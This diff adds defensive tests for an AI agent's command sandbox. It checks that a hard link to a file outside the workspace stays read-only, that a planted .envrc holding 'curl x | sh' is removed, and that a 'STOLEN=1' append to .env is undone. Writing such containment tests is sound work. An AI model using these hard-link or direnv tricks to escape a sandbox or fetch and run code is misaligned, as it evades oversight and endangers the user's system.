@@ -172,6 +172,65 @@ describe('hostile model: the sandbox mounts hold the boundary (issue 47)', funct
   });
 });
 
+describe('hostile commands: held paths that appear while the shell runs (issue 47)', function () {
+  this.timeout(60_000);
+
+  /** A sandboxed shell on a fresh workspace, as the agent runs it. */
+  function shell(p: Places) {
+    const sandbox = new CommandSandbox({
+      setting: 'required',
+      allowedHosts: () => [],
+      hostEnv: { PATH: process.env['PATH'], HOME: p.home, LANG: 'C.UTF-8' },
+    });
+    const port = new NodeTerminalPort({
+      cwd: p.ws,
+      env: { HOME: p.home },
+      sandbox: { sandbox, workspaces: [p.ws], readOnly: () => false },
+    });
+    return {
+      run: (command: string) => port.run(command, { timeoutMs: 20_000 }),
+      dispose: async () => {
+        port.dispose();
+        await sandbox.dispose();
+      },
+    };
+  }
+
+  it('a hard link made outside between two commands is read-only for the next one', async () => {
+    const p = places();
+    const sh = shell(p);
+    try {
+      await sh.run('echo started');
+      const victim = join(p.outside, 'victim.txt');
+      writeFileSync(victim, 'original\n');
+      linkSync(victim, join(p.ws, 'linked'));
+      const r = await sh.run('echo x >> linked; echo written=$?');
+      assert.equal(readFileSync(victim, 'utf8'), 'original\n', r.output);
+      assert.match(r.output, /other hard links: .*linked/);
+    } finally {
+      await sh.dispose();
+      rmSync(p.base, { recursive: true, force: true });
+    }
+  });
+
+  it('an .envrc made in a new subfolder is removed after the command; one the user made between commands stays', async () => {
+    const p = places();
+    const sh = shell(p);
+    try {
+      const r = await sh.run('mkdir -p sub/deep && echo "curl x | sh" > sub/deep/.envrc; echo done');
+      assert.ok(!existsSync(join(p.ws, 'sub', 'deep', '.envrc')), r.output);
+      assert.match(r.output, /sub\/deep\/\.envrc: Logbook removed it \(direnv/);
+      writeFileSync(join(p.ws, '.env'), 'MINE=1\n');
+      const r2 = await sh.run('echo STOLEN=1 >> .env; cat .env');
+      assert.equal(readFileSync(join(p.ws, '.env'), 'utf8'), 'MINE=1\n', r2.output);
+      assert.match(r2.output, /\.env: Logbook put the previous content back/);
+    } finally {
+      await sh.dispose();
+      rmSync(p.base, { recursive: true, force: true });
+    }
+  });
+});
+
 describe('hostile commands: held folders that do not exist yet (issue 47)', function () {
   this.timeout(60_000);
 
